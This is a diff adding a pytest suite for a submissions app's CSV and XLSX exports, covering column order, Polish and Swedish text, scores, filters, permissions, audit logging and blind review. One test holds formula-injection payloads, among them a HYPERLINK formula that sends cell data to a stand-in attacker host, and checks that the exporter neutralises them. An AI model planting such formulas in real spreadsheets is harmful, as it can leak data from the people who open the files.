@@ -1,0 +1,509 @@
+"""Exports of a form's submissions as CSV and XLSX, through the real app: columns in form
+order, letters intact, group answers flattened, weighted scores, formula injection neutralised,
+filters, who may export, and the memory benchmark at a small size."""
+
+from __future__ import annotations
+
+import csv
+import io
+import subprocess
+import sys
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import select
+
+from tests.conftest import FormClient
+from tests.definitions import base
+from tests.test_auth import PASSWORD, sign_in
+
+ROOT = Path(__file__).resolve().parent.parent
+SLUG = "export-test"
+ADMIN = "bob@example.org"
+
+FIELDS = [
+    {"type": "heading", "text": "About the branch"},
+    {"name": "branch", "type": "text", "label": {"en": "Branch", "pl": "Filia"},
+     "required": True, "identifying": True},
+    {"name": "story", "type": "textarea", "label": {"en": "Story", "pl": "Historia"}},
+    {"name": "size", "type": "choice", "label": "Size",
+     "choices": [{"value": "s", "label": {"en": "Small", "pl": "Mała"}},
+                 {"value": "l", "label": {"en": "Large", "pl": "Duża"}}]},
+    {"name": "participants", "type": "group", "label": "Participants",
+     "item_label": {"en": "Participant", "pl": "Uczestnik"}, "max": 3, "fields": [
+        {"name": "full_name", "type": "text", "label": "Full name", "required": True},
+        {"name": "diet", "type": "choice", "label": "Diet", "required": True,
+         "choices": [{"value": "none", "label": "No needs"},
+                     {"value": "vegan", "label": {"en": "vegan", "pl": "wegańska"}}]},
+     ]},
+]  # fmt: skip
+RUBRIC = [
+    {"key": "fit", "label": "Fit", "weight": 1},
+    {"key": "idea", "label": "Idea", "weight": 3},
+]
+HEADER = [
+    "Reference",
+    "State",
+    "Submitted at",
+    "Last changed",
+    "Branch",
+    "Story",
+    "Size",
+    "Participants",
+    "Score (weighted average)",
+    "Scorers",
+    "Tags",
+]
+
+
+def definition(slug: str = SLUG, fields: list | None = None, **extra) -> dict:
+    return base(slug, [{"title": "All", "fields": fields or FIELDS}], rubric=RUBRIC, **extra)
+
+
+def send(app, answers: dict, slug: str = SLUG) -> int:
+    """Submit over HTTP like an applicant; returns the new submission's id."""
+    from extensions import db
+    from models import Submission
+
+    client = FormClient(app.test_client())
+    response = client.fill(slug, 1, answers)
+    assert response.status_code == 302, client.last_html[:2000]
+    client.get(f"/calls/{slug}/check")
+    assert client.post(f"/calls/{slug}/check", {}).status_code == 302
+    with app.app_context():
+        return db.session.scalar(select(Submission.id).order_by(Submission.id.desc()).limit(1))
+
+
+def answers(branch: str, story: str = "", size: str = "s", people=()) -> dict:
+    data = {"branch": branch, "story": story, "size": size}
+    for index, (name, diet) in enumerate(people):
+        data[f"participants-{index}-full_name"] = name
+        data[f"participants-{index}-diet"] = diet
+    return data
+
+
+def staff(app, email: str, role: str = "reviewer", forms: tuple[str, ...] = ()) -> str:
+    args = ["users", "create", email, "--role", role]
+    for slug in forms:
+        args += ["--form", slug]
+    result = app.test_cli_runner().invoke(args=args, input=f"{PASSWORD}\n{PASSWORD}\n")
+    assert result.exit_code == 0, result.output
+    return email
+
+
+def signed_in(app, email: str) -> FormClient:
+    client = FormClient(app.test_client())
+    assert sign_in(client, email).status_code == 302
+    return client
+
+
+def user_id(app, email: str) -> int:
+    from extensions import db
+    from models import User
+
+    with app.app_context():
+        return db.session.scalar(select(User.id).where(User.email == email))
+
+
+def form_id(app, slug: str = SLUG) -> int:
+    from extensions import db
+    from models import Form
+
+    with app.app_context():
+        return db.session.scalar(select(Form.id).where(Form.slug == slug))
+
+
+def as_user(app, email: str, work):
+    """Run a review service as the signed-in person would."""
+    from extensions import db
+    from models import User
+
+    with app.test_request_context():
+        return work(db.session.scalar(select(User).where(User.email == email)))
+
+
+def score(app, email: str, submission_id: int, fit: int, idea: int) -> None:
+    from services.scoring import save_scores
+
+    as_user(
+        app, email, lambda u: save_scores(submission_id, u, {"fit": str(fit), "idea": str(idea)})
+    )
+
+
+def tag(app, submission_id: int, *names: str, email: str = "rita@example.org") -> None:
+    from services.annotations import add_tag
+
+    for name in names:
+        as_user(app, email, lambda u, name=name: add_tag(submission_id, u, name))
+
+
+def set_submitted_at(app, submission_id: int, moment: datetime) -> None:
+    from extensions import db
+    from models import Submission
+
+    with app.app_context():
+        db.session.get(Submission, submission_id).submitted_at = moment
+        db.session.commit()
+
+
+def csv_rows(response) -> list[list[str]]:
+    text = response.get_data().decode("utf-8")
+    assert text.startswith("\ufeff"), "no byte order mark: Excel would garble the letters"
+    return list(csv.reader(io.StringIO(text[1:])))
+
+
+def xlsx_rows(response) -> list[list[str]]:
+    sheet = load_workbook(io.BytesIO(response.get_data()), read_only=True).active
+    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
+
+
+@pytest.fixture
+def reviewer(app, create_form):
+    create_form(definition())
+    return staff(app, "rita@example.org", forms=(SLUG,))
+
+
+@pytest.fixture
+def filled(app, reviewer):
+    """Three submissions: Polish and Swedish letters, a group, scores, tags, a state change."""
+    from services.transitions import Actor, transition
+
+    first = send(
+        app,
+        answers(
+            "Filia nr 12 — Łódź",
+            "Zażółć gęślą jaźń: ąćęłńóśźż ĄĆĘŁŃÓŚŹŻ",
+            "l",
+            [("Anna Nowak", "vegan"), ("Åsa Öberg", "none")],
+        ),
+    )
+    second = send(app, answers("Biblioteket i Växjö", "Räksmörgås åäö ÅÄÖ", "s"))
+    third = send(app, answers("Filia Bałuty", "", "s", [("Łukasz Żak", "none")]))
+    with app.app_context():
+        transition(second, "start_review", Actor("reviewer", None))
+    staff(app, ADMIN, "admin")
+    # Rita: (1·4 + 3·2) / 4 = 2.5; the admin: 5; the reviewers' average: 3.75.
+    score(app, reviewer, first, fit=4, idea=2)
+    score(app, ADMIN, first, fit=5, idea=5)
+    score(app, ADMIN, second, fit=3, idea=3)  # Rita has not scored this one
+    tag(app, first, "Wrocław", "priority")
+    tag(app, third, "priority")
+    return [first, second, third]
+
+
+def test_csv_has_a_column_per_question_in_form_order_with_state_scores_and_tags(
+    app, reviewer, filled
+):
+    client = signed_in(app, reviewer)
+    response = client.client.get(f"/dashboard/exports/{form_id(app)}.csv")
+    assert response.status_code == 200
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.headers["Content-Disposition"] == (
+        f'attachment; filename="{SLUG}-submissions.csv"'
+    )
+    assert response.headers["Cache-Control"] == "no-store"
+    rows = csv_rows(response)
+    assert rows[0] == HEADER
+    assert len(rows) == 4
+    first, second, third = rows[1:]
+    year = datetime.now(UTC).year
+    assert [r[0] for r in rows[1:]] == [
+        f"TEST-{year}-0001",
+        f"TEST-{year}-0002",
+        f"TEST-{year}-0003",
+    ]
+    assert first[1:2] + first[4:] == [
+        "Submitted",
+        "Filia nr 12 — Łódź",
+        "Zażółć gęślą jaźń: ąćęłńóśźż ĄĆĘŁŃÓŚŹŻ",
+        "Large",
+        "Participant 1: Anna Nowak, vegan; Participant 2: Åsa Öberg, No needs",
+        "3.75",
+        "2",
+        "priority, wrocław",
+    ]
+    assert second[1] == "In review"
+    # Scores stay hidden from a reviewer until they have scored themselves; the count shows.
+    assert second[4:] == ["Biblioteket i Växjö", "Räksmörgås åäö ÅÄÖ", "Small", "", "", "1", ""]
+    assert third[4:] == [
+        "Filia Bałuty",
+        "",
+        "Small",
+        "Participant 1: Łukasz Żak, No needs",
+        "",
+        "0",
+        "priority",
+    ]
+    # Times in the form's time zone (Europe/Warsaw), to the second, with the offset.
+    submitted = datetime.fromisoformat(first[2])
+    assert submitted.utcoffset() is not None and submitted.utcoffset().total_seconds() in (
+        3600,
+        7200,
+    )
+    assert abs((datetime.now(UTC) - submitted).total_seconds()) < 300
+
+
+def test_xlsx_has_the_same_rows_as_the_csv(app, reviewer, filled):
+    client = signed_in(app, reviewer)
+    url = f"/dashboard/exports/{form_id(app)}"
+    response = client.client.get(url + ".xlsx")
+    assert response.status_code == 200
+    assert response.mimetype == (
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
+    assert response.headers["Content-Disposition"].startswith("attachment;")
+    assert f"{SLUG}-submissions.xlsx" in response.headers["Content-Disposition"]
+    rows = xlsx_rows(response)
+    assert rows[0] == HEADER
+    assert rows == csv_rows(client.client.get(url + ".csv"))
+    assert "Zażółć gęślą jaźń: ąćęłńóśźż ĄĆĘŁŃÓŚŹŻ" in rows[1]
+    assert "Räksmörgås åäö ÅÄÖ" in rows[2]
+
+
+def test_the_export_is_in_the_language_of_the_page_where_the_form_offers_it(app, reviewer, filled):
+    client = signed_in(app, reviewer)
+    rows = csv_rows(client.client.get(f"/dashboard/exports/{form_id(app)}.csv?lang=pl"))
+    assert rows[0][4:6] == ["Filia", "Historia"]
+    assert rows[1][1] == "Złożone"
+    assert rows[1][6:8] == [
+        "Duża",
+        "Uczestnik 1: Anna Nowak, wegańska; Uczestnik 2: Åsa Öberg, No needs",
+    ]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+]
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_formulas_in_answers_and_tags_come_back_as_text(app, reviewer, kind):
+    ids = [send(app, answers(formula, formula, "s", [(formula, "none")])) for formula in FORMULAS]
+    tag(app, ids[0], "=1+1")
+    client = signed_in(app, reviewer)
+    response = client.client.get(f"/dashboard/exports/{form_id(app)}.{kind}")
+    rows = csv_rows(response) if kind == "csv" else xlsx_rows(response)
+    for formula, row in zip(FORMULAS, rows[1:], strict=True):
+        assert row[4] == row[5] == "'" + formula
+        assert row[7] == f"Participant 1: {formula}, No needs"  # not at the start: harmless
+    assert rows[1][10] == "'=1+1"
+    if kind == "xlsx":
+        sheet = load_workbook(io.BytesIO(response.get_data())).active
+        assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value)
+
+
+def test_neutralise_prefixes_only_what_a_spreadsheet_would_run():
+    from services.exports import neutralise
+
+    for text in ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"]:
+        assert neutralise(text) == "'" + text
+    for text in ["", "1", "a=b", " Anna", "'=1", "ąę"]:
+        assert neutralise(text) == text
+
+
+def test_xlsx_drops_control_characters_without_uncovering_a_formula():
+    from services.exports import write_xlsx
+
+    target = io.BytesIO()
+    write_xlsx([["Header"], ["\x01=1+1", "Zeile\x0bmit Steuerzeichen", "x" * 40000]], target, "t")
+    target.seek(0)
+    row = next(load_workbook(target).active.iter_rows(min_row=2, values_only=True))
+    assert row == ("'=1+1", "Zeilemit Steuerzeichen", "x" * 32767)
+
+
+@pytest.mark.parametrize(
+    ("query", "branches"),
+    [
+        ("", ["Filia nr 12 — Łódź", "Biblioteket i Växjö", "Filia Bałuty"]),
+        ("?state=in_review", ["Biblioteket i Växjö"]),
+        (
+            "?state=in_review&state=submitted",
+            ["Filia nr 12 — Łódź", "Biblioteket i Växjö", "Filia Bałuty"],
+        ),
+        ("?state=accepted", []),
+        ("?tag=priority", ["Filia nr 12 — Łódź", "Filia Bałuty"]),
+        ("?tag=wrocław", ["Filia nr 12 — Łódź"]),
+        ("?tag=+WROCŁAW+", ["Filia nr 12 — Łódź"]),  # tags are compared as they are stored
+        ("?tag=nothing", []),
+        ("?q=anna", ["Filia nr 12 — Łódź"]),  # in a group answer, other case
+        ("?q=łukasz", ["Filia Bałuty"]),  # non-ASCII, other case
+        ("?q=RÄKSMÖRGÅS", ["Biblioteket i Växjö"]),
+        ("?q=100%25", []),  # % is a character, not a wildcard
+        ("?q=-0002", ["Biblioteket i Växjö"]),  # the reference
+        ("?from=2026-03-02", ["Biblioteket i Växjö", "Filia Bałuty"]),
+        ("?to=2026-03-01", ["Filia nr 12 — Łódź"]),
+        ("?from=2026-03-02&to=2026-03-02", ["Biblioteket i Växjö"]),
+        ("?from=2026-03-02&tag=priority&q=bałuty", ["Filia Bałuty"]),
+    ],
+)
+def test_filters_narrow_the_export(app, reviewer, filled, query, branches):
+    # Days are the form's (Warsaw): 23:30 UTC on 1 March is already 2 March in Warsaw.
+    set_submitted_at(app, filled[0], datetime(2026, 3, 1, 22, 59, tzinfo=UTC))
+    set_submitted_at(app, filled[1], datetime(2026, 3, 1, 23, 30, tzinfo=UTC))
+    set_submitted_at(app, filled[2], datetime(2026, 3, 3, 8, 0, tzinfo=UTC))
+    client = signed_in(app, reviewer)
+    for kind in ("csv", "xlsx"):
+        response = client.client.get(f"/dashboard/exports/{form_id(app)}.{kind}{query}")
+        assert response.status_code == 200
+        rows = csv_rows(response) if kind == "csv" else xlsx_rows(response)
+        assert rows[0] == HEADER
+        assert [row[4] for row in rows[1:]] == branches
+
+
+def test_a_date_that_is_not_a_date_is_refused_with_a_message(app, reviewer, filled):
+    client = signed_in(app, reviewer)
+    for kind in ("csv", "xlsx"):
+        response = client.get(f"/dashboard/exports/{form_id(app)}.{kind}?from=1.3.2026")
+        assert response.status_code == 400
+        assert "Enter dates like 2027-01-31." in client.last_html
+        assert "attachment" not in response.headers.get("Content-Disposition", "")
+
+
+def test_anonymous_visitors_are_sent_to_sign_in(app, client, reviewer):
+    for kind in ("csv", "xlsx"):
+        response = client.client.get(f"/dashboard/exports/{form_id(app)}.{kind}")
+        assert response.status_code == 302 and "/login" in response.headers["Location"]
+
+
+def test_only_reviewers_of_the_form_and_admins_may_export(app, create_form, reviewer, filled):
+    create_form(definition("other-call"))
+    other = signed_in(app, staff(app, "otto@example.org", forms=("other-call",)))
+    everything = signed_in(app, ADMIN)
+    known, unknown = form_id(app), form_id(app, "other-call") + 100
+    for kind in ("csv", "xlsx"):
+        # Someone else's form looks exactly like one that does not exist.
+        assert other.client.get(f"/dashboard/exports/{known}.{kind}").status_code == 404
+        assert other.client.get(f"/dashboard/exports/{unknown}.{kind}").status_code == 404
+        assert everything.client.get(f"/dashboard/exports/{unknown}.{kind}").status_code == 404
+        assert everything.client.get(f"/dashboard/exports/{known}.{kind}").status_code == 200
+        assert (
+            other.client.get(f"/dashboard/exports/{form_id(app, 'other-call')}.{kind}").status_code
+            == 200
+        )
+
+
+def test_every_export_is_in_the_audit_log(app, reviewer, filled):
+    from extensions import db
+    from models import AuditEntry
+
+    client = signed_in(app, reviewer)
+    client.client.get(f"/dashboard/exports/{form_id(app)}.csv?state=submitted&q=anna")
+    client.client.get(f"/dashboard/exports/{form_id(app)}.xlsx")
+    with app.app_context():
+        entries = db.session.scalars(
+            select(AuditEntry)
+            .where(AuditEntry.action == "submissions.exported")
+            .order_by(AuditEntry.id)
+        ).all()
+        assert [(e.form_id, e.actor_id, e.actor_type) for e in entries] == [
+            (form_id(app), user_id(app, reviewer), "reviewer")
+        ] * 2
+        assert entries[0].data == {
+            "format": "csv",
+            "filters": {"state": ["submitted"], "q": "anna"},
+        }
+        assert entries[1].data == {"format": "xlsx", "filters": {}}
+
+
+def test_the_dashboard_links_to_the_exports(app, reviewer):
+    client = signed_in(app, reviewer)
+    html = client.get("/dashboard/").get_data(as_text=True)
+    assert f'href="/dashboard/exports/{form_id(app)}.csv"' in html
+    assert f'href="/dashboard/exports/{form_id(app)}.xlsx"' in html
+
+
+def test_blind_review_leaves_identifying_answers_out_except_for_admins(app, create_form):
+    create_form(definition("blind", blind_review=True))
+    send(app, answers("Filia Widzew", "Opowieść", "s", [("Anna Nowak", "vegan")]), "blind")
+    url = f"/dashboard/exports/{form_id(app, 'blind')}.csv"
+    rita = signed_in(app, staff(app, "rita@example.org", forms=("blind",)))
+    rows = csv_rows(rita.client.get(url))
+    assert "Branch" not in rows[0] and "Filia Widzew" not in rows[1]
+    assert rows[0][4:7] == ["Story", "Size", "Participants"]
+    # Nor can a reviewer find the submission by what they may not see.
+    assert len(csv_rows(rita.client.get(url + "?q=widzew"))) == 1
+    assert len(csv_rows(rita.client.get(url + "?q=opowieść"))) == 2
+    admin = signed_in(app, staff(app, ADMIN, "admin"))
+    rows = csv_rows(admin.client.get(url))
+    assert rows[0] == HEADER and rows[1][4] == "Filia Widzew"
+    assert len(csv_rows(admin.client.get(url + "?q=widzew"))) == 2
+
+
+def test_scores_are_shown_as_on_the_dashboard(app, reviewer, filled):
+    """Admins see every average; a reviewer who declares a conflict sees none (and their own
+    scores are removed, so the count drops)."""
+    from services.annotations import declare_conflict
+
+    admin = signed_in(app, ADMIN)
+    rows = csv_rows(admin.client.get(f"/dashboard/exports/{form_id(app)}.csv"))
+    assert [row[8:10] for row in rows[1:]] == [["3.75", "2"], ["3.00", "1"], ["", "0"]]
+
+    as_user(app, reviewer, lambda u: declare_conflict(filled[0], u, "My sister works there."))
+    rows = csv_rows(signed_in(app, reviewer).client.get(f"/dashboard/exports/{form_id(app)}.csv"))
+    assert [row[8:10] for row in rows[1:]] == [["", "1"], ["", "1"], ["", "0"]]
+
+
+def test_answers_to_questions_of_earlier_versions_come_last(app, create_form, reviewer):
+    old_fields = [*FIELDS, {"name": "budget", "type": "number", "label": "Budget (PLN)"}]
+    create_form(definition(fields=old_fields))
+    before = send(app, {**answers("Filia Stare Polesie"), "budget": "1500"})
+    # Version 3 drops the budget question and asks a new one before the group.
+    create_form(
+        definition(fields=[*FIELDS[:4], {"name": "why", "type": "text", "label": "Why"}, FIELDS[4]])
+    )
+    after = send(app, {**answers("Filia Teofilów"), "why": "Sąsiedzi"})
+    client = signed_in(app, reviewer)
+    for kind in ("csv", "xlsx"):
+        response = client.client.get(f"/dashboard/exports/{form_id(app)}.{kind}")
+        rows = csv_rows(response) if kind == "csv" else xlsx_rows(response)
+        assert rows[0] == [*HEADER[:7], "Why", *HEADER[7:], "Budget (PLN) (earlier version)"]
+        assert [row[4] for row in rows[1:]] == ["Filia Stare Polesie", "Filia Teofilów"]
+        assert (rows[1][7], rows[1][-1]) == ("", "1500")
+        assert (rows[2][7], rows[2][-1]) == ("Sąsiedzi", "")
+    assert before < after
+
+
+def test_batches_follow_submission_order_without_repeating_or_skipping(app, reviewer):
+    """Keyset pages of 2: ties on the submission time are ordered by id."""
+    from services.exports import export_rows
+
+    ids = [send(app, answers(f"Filia {n}")) for n in range(7)]
+    moments = [datetime(2026, 3, 1, 10, m, tzinfo=UTC) for m in (5, 1, 1, 1, 3, 9, 1)]
+    for submission_id, moment in zip(ids, moments, strict=True):
+        set_submitted_at(app, submission_id, moment)
+    with app.test_request_context():
+        in_pages = [r[4] for r in list(export_rows(form_id(app), {}, batch_size=2))[1:]]
+        at_once = [r[4] for r in list(export_rows(form_id(app), {}, batch_size=1000))[1:]]
+    assert in_pages == at_once == [f"Filia {n}" for n in (1, 2, 3, 6, 4, 0, 5)]
+
+
+def test_the_memory_benchmark_runs_at_a_small_size(tmp_path):
+    """bench/export_memory.py measures memory at 100 000 rows; here it only has to work."""
+    out_csv, out_xlsx = tmp_path / "out.csv", tmp_path / "out.xlsx"
+    result = subprocess.run(  # noqa: S603  (our own script)
+        [
+            sys.executable,
+            str(ROOT / "bench" / "export_memory.py"),
+            "--rows",
+            "2000",
+            "--csv-out",
+            str(out_csv),
+            "--xlsx-out",
+            str(out_xlsx),
+        ],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=600,
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "peak" in result.stdout
+    text = out_csv.read_text(encoding="utf-8-sig")
+    assert len(text.splitlines()) == 2001
+    assert len(list(csv.reader(io.StringIO(text)))) == 2001
+    assert sum(1 for _row in load_workbook(out_xlsx, read_only=True).active.iter_rows()) == 2001
